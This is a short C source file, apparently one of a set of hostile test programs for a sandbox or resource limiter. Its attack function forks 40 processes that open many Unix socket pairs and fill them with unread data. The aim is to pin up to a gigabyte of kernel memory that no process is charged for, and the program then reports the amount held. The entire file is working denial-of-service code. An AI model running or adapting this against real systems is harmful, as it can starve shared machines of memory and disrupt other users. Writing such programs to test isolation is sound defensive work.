#include "hostile.h"

/* What lies unread in sockets is the kernel's memory, and no process': many sockets of many processes hold gigabytes. */
enum { PROCESSES = 40, PAIRS = 100, MOST = 1 << 30 };

int attack(void) {
    static char junk[65536];
    long *held = (long *)mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < PROCESSES; i++) {
        if (fork() != 0) continue;
        for (int pair = 0; pair < PAIRS; pair++) {
            int ends[2];
            if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends)) break;
            for (int end = 0; end < 2; end++)
                for (ssize_t sent; *held < MOST && (sent = write(ends[end], junk, sizeof junk)) > 0;) __atomic_add_fetch(held, sent, __ATOMIC_RELAXED);
        }
        pause();
    }
    struct timespec moment = {0, 1000000};
    for (long before = -1; *held != before || before < MOST / 4;) {
        before = *held;
        for (int i = 0; i < 100; i++) nanosleep(&moment, 0);
    }
    printf("%ld MiB of the kernel's memory\n", *held >> 20);
    return 0;
}
